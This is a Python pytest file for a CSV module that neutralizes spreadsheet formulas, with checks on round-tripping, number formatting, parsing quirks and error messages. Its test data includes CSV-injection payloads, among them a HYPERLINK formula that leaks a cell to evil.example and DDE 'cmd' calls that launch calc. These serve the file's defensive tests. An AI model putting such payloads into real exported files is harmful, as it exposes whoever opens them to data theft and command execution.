"""CSV text: what is written is safe in a spreadsheet, and is read again as it was."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from simcore import csv_text
from simcore.errors import BadDataError
from simcore.results import Table

ROOT = Path(__file__).parents[1]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "x;=1+1",  # a new cell where semicolons separate columns
    'x;"=1+1"',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_like_a_formula(formula: str) -> None:
    text = csv_text.write(("who", "said"), [("a", formula)])
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                assert not re.match(r'"*[=+\-@\t\r＝]', cell), (separator, cell)
    (row,) = csv_text.parse(text).rows
    assert row["said"] == formula


def test_numbers_stay_numbers() -> None:
    cells = (-0.07, "-0.07", "+3", "-1,234.5", "-0.1 [-0.2, 0.0]", "-5 %", "-1e-07", "-", None)
    text = csv_text.write([str(k) for k in range(len(cells))], [cells])
    assert text.splitlines()[1] == '-0.07,-0.07,+3,"-1,234.5","-0.1 [-0.2, 0.0]",-5 %,-1e-07,-,'
    assert Table(("a",), ((float("nan"),), ("=1",))).to_csv() == 'a\n""\n\'=1\n'


hostile = st.text(st.sampled_from("=+-@'\"\t\r\n;,| a1é＝"), max_size=12)


@given(st.lists(st.tuples(hostile, hostile), min_size=1, max_size=4))
def test_every_text_is_read_as_it_was_written(rows: list[tuple[str, str]]) -> None:
    read = csv_text.parse(csv_text.write(("a", "b"), rows)).rows
    written = [row for row in rows if any(csv_text.neutralize(cell).strip() for cell in row)]
    expected = [
        tuple(csv_text.restore(csv_text.neutralize(cell).strip()) for cell in row)
        for row in written
    ]
    assert [(row["a"], row["b"]) for row in read] == expected
    for cell in (cell for row in rows for cell in row):
        assert csv_text.restore(csv_text.neutralize(cell)) == cell


@pytest.mark.parametrize(
    "text",
    [
        "left,right\na,b\n",
        "sep=;\r\nLeft;RIGHT\r\na;b\r\n",
        '"sep=,"\nleft,right\na,b\n',
        "left\tright\ra\tb\r",
        ' "left", right ,\n a , "b",\n\n',
        '"id, of pair";left;right\n"x;y";a;b\n',
        "\n\nright|left\nb|a",
    ],
)
def test_habits_of_spreadsheets(text: str) -> None:
    (row,) = csv_text.parse(text, ("left", "right")).rows
    assert (row["left"], row["right"]) == ("a", "b")


def test_rows_name_the_line_on_which_they_begin() -> None:
    text = 'sep=,\na,b\n\n"two\nlines",1\n\n\nx,2\n'
    assert [row.line for row in csv_text.parse(text).rows] == [4, 8]
    assert [row.line for row in csv_text.parse(text.replace("\n", "\r\n")).rows] == [4, 8]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a,b\n1,2,3\n", "Line 2 of x.csv has 3 cells, but the header has 2"),
        ('a,b\n1,2\n"3,4\n', "Line 3 of x.csv opens a quotation mark"),
        ('a,b\n"1"2,3\n', "Line 2 of x.csv is not valid CSV"),
        ("a,A\n1,2\n", "The column a occurs twice in x.csv"),
        ("a\0,b\n", "There are zero bytes in x.csv"),
    ],
)
def test_damage_is_one_sentence(text: str, message: str) -> None:
    with pytest.raises(BadDataError, match=message):
        csv_text.parse(text, name="x.csv")


def test_there_is_one_writer_and_one_reader() -> None:
    """Nothing else imports `csv`, or writes CSV through pandas.

    Matrices of numbers are read by Arrow (`vector_files`); their ids are neutralized as well.
    """
    wrong = []
    exempt = {"csv_text.py", "vector_files.py"}
    paths = [*ROOT.glob("simcore/**/*.py"), *ROOT.glob("pages/*.py")]
    for path in (path for path in paths if path.name not in exempt):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            imports = isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names)
            from_csv = isinstance(node, ast.ImportFrom) and node.module == "csv"
            pandas = (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in {"to_csv", "read_csv"}
                and bool(node.args or node.keywords)
            )
            if (imports or from_csv or pandas) and path.name not in {
                "csv_text.py",
                "vector_files.py",
            }:
                wrong.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not wrong
